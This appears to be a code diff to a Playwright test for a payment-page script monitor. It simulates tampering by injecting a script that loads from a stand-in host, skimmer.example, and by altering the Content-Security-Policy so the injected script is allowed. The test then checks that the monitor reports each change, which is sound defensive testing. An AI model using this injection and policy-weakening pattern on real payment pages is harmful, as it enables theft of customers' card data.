@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import type { Page } from '@playwright/test';
 import { expectInteractive, open } from '../browser/interactive.ts';
 import { differences } from '../payment-scripts/compare.ts';
@@ -69,12 +70,12 @@ test('a page that was tampered with differs', async ({ page, baseURL, complaints
   await page.route(`${baseURL}${plan}`, async (route) => {
     const answer = await route.fetch();
     const headers = answer.headers();
-    const [, nonce = ''] = /'nonce-([^']+)'/.exec(headers['content-security-policy'] ?? '') ?? [];
-    const policy = headers['content-security-policy']?.replace(
-      "connect-src 'self'",
-      "connect-src 'self' https://skimmer.example",
-    );
-    const added = `<script nonce="${nonce}">document.title += ''</script><script nonce="${nonce}" src="https://skimmer.example/a.js"></script>`;
+    const skimmer = `document.head.append(Object.assign(document.createElement('script'),{src:'https://skimmer.example/a.js'}))`;
+    const hash = createHash('sha256').update(skimmer).digest('base64');
+    const policy = headers['content-security-policy']
+      ?.replace("connect-src 'self'", "connect-src 'self' https://skimmer.example")
+      .replace('script-src ', `script-src 'sha256-${hash}' `);
+    const added = `<script>${skimmer}</script>`;
     await route.fulfill({
       response: answer,
       headers: { ...headers, 'content-security-policy': policy ?? '', 'x-frame-options': '' },
@@ -84,12 +85,15 @@ test('a page that was tampered with differs', async ({ page, baseURL, complaints
   const read = await watchScripts(page);
   await page.goto(plan);
   await expectInteractive(page);
-  const found = differences(await read(), inventory, baseURL ?? '').map((one) => one.replace(/sha256-\S+/, 'sha256-…'));
+  const found = differences(await read(), inventory, baseURL ?? '').map((one) =>
+    one.replace(/sha256-[^'\s]+/, 'sha256-…'),
+  );
   expect(found.sort()).toEqual(
     [
       `${plan}: a script stands in the page that is not listed: inline sha256-…`,
       `${plan}: https://skimmer.example/a.js is not listed`,
       `${plan}: the header x-frame-options is "", not "DENY"`,
+      `${plan}: the policy has 'sha256-…' in script-src`,
       `${plan}: the policy has https://skimmer.example in connect-src`,
     ].sort(),
   );
